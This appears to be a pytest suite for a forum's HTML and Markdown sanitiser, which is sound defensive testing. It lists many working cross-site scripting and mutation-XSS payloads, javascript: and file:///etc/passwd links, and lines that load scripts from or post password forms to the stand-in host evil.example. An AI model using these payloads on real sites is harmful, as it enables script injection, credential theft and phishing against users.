"""What stands behind `sanitise` and `render_post` has to pass this, whatever it is: bleach and nh3 today.

Every attack goes in twice, as HTML into the sanitiser and as Markdown into a post, and what comes out is read by an
HTML5 parser, as a browser would: what may be there is a short list, and nothing else may.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest
from django.utils.safestring import SafeString

from forum import text
from forum.text import clean_source, render_post, sanitise

# Spelled out again, not imported: a slip in forum/text.py must not move the mark it is measured by.
ELEMENTS = {"a", "blockquote", "br", "code", "del", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "s", "strong", "ul"}
REL = "noreferrer nofollow noopener ugc"
HOST_NAME = re.compile(r"([a-z0-9]([a-z0-9-]*[a-z0-9])?\.)+[a-z]([a-z0-9-]*[a-z0-9])?", re.ASCII)
NEVER_IN_TEXT = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u206f\ud800-\udfff\ufeff]")


def parsed(html: str, *, scripting: bool = True) -> Element:
    fragment: Element = html5lib.parseFragment(html, container="div", treebuilder="etree", scripting=scripting)
    return fragment


def elements(html: str, *, scripting: bool = True) -> Iterator[Element]:
    yield from itertools.islice(parsed(html, scripting=scripting).iter(), 1, None)


def words(html: str) -> str:
    return " ".join("".join(parsed(html).itertext()).split())


def links(html: str) -> list[Element]:
    return [element for element in elements(html) if str(element.tag).endswith("}a")]


def assert_is_safe(html: str) -> None:
    assert not NEVER_IN_TEXT.search(html)
    for scripting in (True, False):  # noscript and its kin are read differently
        for element in elements(html, scripting=scripting):
            assert isinstance(element.tag, str), "a comment"
            namespace, _, name = element.tag[1:].partition("}")
            assert namespace == "http://www.w3.org/1999/xhtml"
            assert name in ELEMENTS
            attributes = dict(element.attrib)
            if name == "a":
                assert attributes.pop("rel") == REL
                assert_leads_to_a_named_host(attributes.pop("href"))
            if name == "ol":
                assert re.fullmatch("[0-9]{1,9}", attributes.pop("start", "1"))
            assert not attributes


def assert_leads_to_a_named_host(href: str) -> None:
    assert re.match(r"(?i)https?://[a-z0-9]", href)
    assert re.fullmatch(r"[!-~]+", href)
    assert not set('"<>\\^`{|}') & set(href)
    address = urlsplit(href)
    assert "@" not in address.netloc
    assert HOST_NAME.fullmatch(address.hostname or "")
    assert address.port is None or address.port < 100_000  # reading it raises for what is not a number


def as_post(source: str) -> str:
    return render_post(clean_source(source))


HANDLERS = [
    f"<{tag} {handler}=alert(1)>words</{tag.split()[0]}>"
    for tag in (
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "details open",
        "input autofocus",
        "a href=https://good.example",
        "p",
        "blockquote",
        "marquee",
        "math",
        "custom-element tabindex=1",
    )
    for handler in ("onerror", "onload", "onclick", "onfocus", "ontoggle", "ONMOUSEOVER", "onpointerenter")
]

MARKUP = [
    # scripts in every spelling
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0csrc=//evil.example></script>",
    "<script/src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script type=module>import '//evil.example'</script>",
    "<script><!--\nalert(1)\n--></script>",
    '"><script>alert(1)</script>',
    "</p><script>alert(1)</script><p>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
    # mutation: what one parser writes and the next reads differently
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math>"
    "<img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<svg><p><style><g title=\"</style><img src onerror=alert(1)>\">",
    "<svg><desc><noscript>&lt;/noscript>&lt;img src onerror=alert(1)>",
    "<textarea><script>alert(1)</textarea><img src=x onerror=alert(1)>",
    "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<iframe><p title=\"</iframe><svg/onload=alert(1)>\">",
    "<noembed><p title=\"</noembed><svg/onload=alert(1)>\">",
    "<noframes><p title=\"</noframes><svg/onload=alert(1)>\">",
    "<plaintext><svg/onload=alert(1)>",
    "<template><svg/onload=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<a><table><a href=https://good.example>words",
    "<a href=https://good.example><button><a href=javascript:alert(1)>words",
    "<p><em><p><em><p><em><p><em>words",
    "<b><p>words</b>words</p><i><s><del></i></s>",
    "<table><tr><td><a href=javascript:alert(1)>words</table>",
    "<ul><p><li><ol><p>words</ul></ol>",
    "<pre>\n\n\n\n\n\n\nwords</pre>",
    "<h3><h4><h3>words</h4></h3>",
    "<code><pre><code><p>words</pre>",
    "<br></br><hr></hr></br><p/></p></p>",
    "<em" * 50,
    "<em>" * 50 + "words",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\u2028src=x\u2028onerror=alert(1)>",
    "<\ufeffscript>alert(1)</script>",
    "<im\u202eg src=x onerror=alert(1)>",
    "words &#x202e;&#8238;&#x2066;&#0;&#x85;&#xd800;&#xfeff; words",
    "\ud83d\udc69 words \udc00",
    # comments, declarations, sections
    "<!-- words --><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>",
    "<!-->words<!--",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><?php echo 1 ?>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE html [<!ENTITY x 'words'>]>&x;",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "</ onclick=alert(1)>",
    "<% alert(1) %>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% debug %}",
    # names that shadow what scripts look for
    "<a id=cookie name=cookie href=https://good.example>words</a>",
    "<form id=document><input name=cookie></form>",
    "<p id=__proto__>words</p>",
    "<a id=x><a id=x name=y href=https://good.example>",
    "<img name=getElementById><em id=body class=hidden>words</em>",
    "<ol id=x name=y start=5 type=a reversed>words</ol>",
    # things that load, send, frame or restyle
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,words></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta name=referrer content=unsafe-url>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>words</p>",
    "<p style=width:expression(alert(1))>words</p>",
    "<p class=quick-exit hidden>words</p>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example 2x' loading=eager>",
    "<picture><source srcset=//evil.example><img></picture>",
    "<video poster=//evil.example><source src=x onerror=alert(1)></video>",
    "<audio src=//evil.example autoplay>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<svg><use href=data:image/svg+xml,words#x /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>words</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=href to=javascript:alert(1) />",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>words</maction></math>",
    "<math href=javascript:alert(1)>words</math>",
    "<form action=//evil.example><input name=password><button>words</button></form>",
    "<button formaction=javascript:alert(1)>words</button>",
    "<input type=image src=//evil.example formaction=//evil.example>",
    "<textarea name=words></textarea><select><option>words</select>",
    "<isindex action=//evil.example>",
    "<keygen autofocus><dialog open>words</dialog>",
    "<portal src=//evil.example></portal><fencedframe></fencedframe>",
    "<body background=//evil.example><table background=//evil.example>words",
    "<bgsound src=//evil.example><frameset><frame src=//evil.example></frameset>",
    "<a href=https://good.example ping=//evil.example download target=_top>words</a>",
    "<a href=https://good.example rel=opener referrerpolicy=unsafe-url>words</a>",
    "<a href=https://good.example style=position:fixed onclick=alert(1)>words</a>",
    "<a href=https://good.example href=javascript:alert(1)>words</a>",
    "<blockquote cite=javascript:alert(1)>words</blockquote>",
    "<del cite=//evil.example datetime=2026>words</del>",
    "<ol start=-1><ol start=1e3><ol start=٣><ol start=9999999999>words</ol>",
    "<p contenteditable is=x-y slot=z part=q popover popovertarget=a>words</p>",
    # the same through Markdown
    "![words](https://evil.example/pixel.gif)",
    "![words](javascript:alert(1))",
    "[![words](https://evil.example/pixel.gif)](https://good.example)",
    "![words][pixel]\n\n[pixel]: https://evil.example/pixel.gif",
    "[words][link]\n\n[link]: javascript:alert(1)",
    '[words](https://good.example "onclick=alert(1)")',
    '[words](https://good.example"onclick="alert(1))',
    "[words](https://good.example/'onclick='alert(1))",
    "[words](<https://good.example/><img src=x onerror=alert(1)>)",
    "[<img src=x onerror=alert(1)>](https://good.example)",
    "[words](https://good.example/`<img src=x onerror=alert(1)>`)",
    "<https://good.example/\"onclick=alert(1)>",
    "https://good.example/<script>alert(1)</script>",
    "https://good.example/\"onmouseover=\"alert(1)",
    "www.good.example/\"><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "```js onclick=alert(1) class=x\nwords\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>\n\n- <svg/onload=alert(1)>\n1. <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>\n\n## words {#id .class onclick=alert(1)}",
    "**<script>alert(1)</script>** ~~<svg/onload=alert(1)>~~",
    "words {: onclick=alert(1) }",
    "| <script>alert(1)</script> |\n|---|\n| words |",
    "\\<script>alert(1)\\</script>",
    "<<https://good.example>script>alert(1)</script>",
    "[words](https://good.example)<script>alert(1)</script>",
]  # fmt: skip

ADDRESSES = [
    "javascript:alert(1)",
    "javascript:1",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\u200bscript:alert(1)",
    "java\u2060script:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u202escript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javaſcript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "javascript://good.example/%0aalert(1)",
    "javascript:https://good.example/",
    "vbscript:msgbox(1)",
    "livescript:1",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:,words",
    "blob:https://good.example/1",
    "filesystem:https://good.example/1",
    "file:///etc/passwd",
    "file:1",
    "about:blank",
    "view-source:https://good.example",
    "feed:javascript:alert(1)",
    "ftp://good.example/",
    "ws://good.example/",
    "intent://good.example#Intent;scheme=https;end",
    "whatsapp://send?phone=1",
    "sms:5551234",
    "tel:5551234",
    "tel:+445551234",
    "mailto:someone@evil.example",
    "mailto:1",
    "facetime:1",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/\t/evil.example",
    "/",
    "/accounts/sign-out/",
    "?next=//evil.example",
    "#top",
    "words",
    "../x",
    ".evil.example",
    "evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https:\\/evil.example",
    "https://\\evil.example",
    "https://evil.example\\@good.example",
    "https://good.example@evil.example",
    "https://good.example:secret@evil.example",
    "https://good.example%40evil.example",
    "https://good.example&#64;evil.example",
    "https://good.example%2f@evil.example",
    "https://:80/",
    "https://",
    "https://?",
    "https://#evil.example",
    "https://evil",
    "https://localhost/",
    "https://localhost:8000/admin/",
    "http://127.0.0.1/",
    "http://192.168.1.1/reboot",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://0x7f.0x0.0x0.0x1/",
    "http://0177.0.0.1/",
    "http://1.2.3.4.5/",
    "http://[::1]/",
    "http://[::ffff:127.0.0.1]/",
    "https://evil.example./",
    "https://.evil.example/",
    "https://evil..example/",
    "https://-evil.example/",
    "https://evil-.example/",
    "https://ev_il.example/",
    "https://evil%2eexample/",
    "https://evil.example:/",
    "https://evil.example:99999999/",
    "https://evil.example:80x/",
    "https://evil.exa\u200bmple".replace("\u200b", "%E2%80%8B"),
    "httpſ://evil.example",
    "ttp://evil.example",
    "https//evil.example",
    "https&colon;//evil.example:x",
    "https://" + "a" * 64 + ".example/",
    "https://evil.example/" + "a" * 2_000,
    "http://https://evil.example@",
]  # fmt: skip


@pytest.mark.parametrize("attack", HANDLERS + MARKUP)
def test_attacks_in_markup_lose_their_teeth(attack: str) -> None:
    for html in (sanitise(attack), as_post(attack), as_post(f"words {attack} words\n\n> {attack}\n- {attack}")):
        assert_is_safe(html)
        assert sanitise(html) == html


@pytest.mark.parametrize("address", ADDRESSES)
def test_addresses_that_may_not_be_linked_leave_their_words(address: str) -> None:
    quoted = address.replace('"', "&quot;")
    for html in (sanitise(f'<p><a href="{quoted}">kept</a></p>'), as_post(f"[kept](<{address}>)")):
        assert_is_safe(html)
        assert not links(html)
        assert "kept" in words(html)


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_spelling_of_a_bad_address_gets_through(address: str) -> None:
    for source in (
        f"[kept]({address})",
        f"<{address}>",
        address,
        f"[{address}]({address})",
        f"[kept][1]\n\n[1]: {address}",
        f"[kept]({address.upper()} 'title')",
        f"[kept](\\{address})",
        f"![kept]({address})",
    ):
        assert_is_safe(as_post(source))
    for html in (
        f"<a href={address}>kept</a>",
        f"<a href='{address}'>kept</a>",
        f"<A HREF=`{address}`>kept</A>",
        f'<a/href="{address}"/>kept',
        f'<a xlink:href="{address}" src="{address}" action="{address}">kept</a>',
    ):
        assert_is_safe(sanitise(html))


@pytest.mark.parametrize("attack", HANDLERS + MARKUP + [f'<a href="{address}">kept</a>' for address in ADDRESSES])
def test_nh3_holds_without_bleach(attack: str) -> None:
    """The reason it is there. Alone it may leave a link without an address, which leads nowhere."""
    html = text._plain(text._NH3.clean(text._plain(attack)))
    assert_is_safe(html.replace(f'<a rel="{REL}">', "<em>"))


def test_nh3_has_the_last_word() -> None:
    assert sanitise("<p>&copy;&hellip;</p>") == "<p>©…</p>"  # bleach leaves what is spelled like this


@pytest.mark.parametrize(
    "address",
    [
        "https://good.example",
        "http://good.example/",
        "HTTPS://Good.Example/Path",
        "https://good.example:8443/a/b.html?c=d&e=f#g",
        "https://www.good.example/(a)_b",
        "https://xn--mnchen-3ya.example/",
        "https://a.b.c.d.good.example",
        "https://2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion/",
        "https://good.example/?q='x'&r=%22y%22",
        "https://1.good.example",
    ],
)
def test_addresses_that_may_be_linked_are(address: str) -> None:
    for html in (sanitise(f'<a href="{address}" onclick=alert(1)>kept</a>'), as_post(f"[kept]({address})")):
        assert_is_safe(html)
        assert [link.get("href") for link in links(html)] == [address]


def test_a_link_that_shows_another_address_shows_its_own_too() -> None:
    assert words(as_post("[https://bank.example](https://evil.example/login)")) == "https://bank.example (evil.example)"
    assert words(as_post("[bank.example](https://bank.example.evil.example)")).endswith(" (bank.example.evil.example)")
    assert words(as_post("[bank．example](https://evil.example)")) == "bank．example (evil.example)"
    assert words(as_post("[evil.example.bank.example](https://evil.example)")).endswith(" (evil.example)")
    assert words(as_post("[evil.example@bank.example](https://evil.example)")).endswith(" (evil.example)")
    assert words(as_post("[evil.example/\u200f.bank.example](https://evil.example)")).endswith(" (evil.example)")
    assert words(as_post("<https://bаnk.example>")) == "https://bаnk.example (xn--bnk-6cd.example)"  # a Cyrillic а


def test_letters_that_only_fold_into_ascii_are_other_letters() -> None:
    assert text._host("https://good.example") == "good.example"
    assert text._host("httpſ://good.example") is None
    assert text._host("https://boo\u212a.example") is None


def test_a_link_in_a_link_is_the_only_one() -> None:
    html = as_post("[one [two](https://good.example) three](https://evil.example)")
    assert next((link.get("href"), link.text) for link in links(html)) == ("https://good.example", "two")
    assert words(html).startswith("[one two (good.example) three](")


def test_a_link_without_words_shows_where_it_leads() -> None:
    for nothing in ("", " ", "\u200b", "\u2800", "\u3164"):
        assert words(as_post(f"[{nothing}](https://evil.example)")) == "evil.example"


def test_a_telephone_or_mail_link_becomes_what_it_points_at() -> None:
    html = as_post("[Helpline](tel:+445551234) [write](mailto:me@evil.example?subject=x) [116 123](sms:116123)")
    assert not links(html)
    assert words(html) == "Helpline (+445551234) write (me@evil.example) 116 123 (116123)"


def test_an_address_with_a_name_in_front_links_only_what_it_shows() -> None:
    html = as_post("https://bank.example@evil.example/ and someone@www.evil.example")
    assert [link.get("href") for link in links(html)] == ["https://bank.example"]


def test_one_long_address_cannot_be_multiplied_and_no_words_hidden_in_it() -> None:
    source = f"[a]: https://good.example/{'x' * 1_900}\n\n" + "[a] " * 490
    assert len(as_post(source)) < 3 * len(source)
    assert words(as_post("[//]: # (not for everybody)")) == "[//]: # (not for everybody)"


def test_direction_cannot_be_turned_by_spelling_the_signs_out() -> None:
    html = as_post("words &#x202e;sdrow&#8237; &rlm; \u202esdrow\u2069")
    assert words(html) == "words &#x202e;sdrow&#8237; &rlm; sdrow"


def test_markup_that_does_not_settle_is_shown_as_text() -> None:
    html = sanitise("<pre>" + "\n" * 50 + "words</pre>")
    assert_is_safe(html)
    assert sanitise(html) == html
    assert "words" in words(html)


def test_only_rendering_marks_words_as_safe() -> None:
    assert isinstance(as_post("words"), SafeString)
    assert not isinstance(sanitise("words"), SafeString)
    assert not isinstance(clean_source("<b>words</b>"), SafeString)


def test_threads_do_not_meet_in_the_parsers() -> None:
    sources = [f"{attack}\n\n**{number}** [x](https://a{number}.example)" for number, attack in enumerate(MARKUP)]
    expected = [as_post(source) for source in sources]
    with ThreadPoolExecutor(8) as threads:
        assert list(threads.map(as_post, sources * 3)) == expected * 3
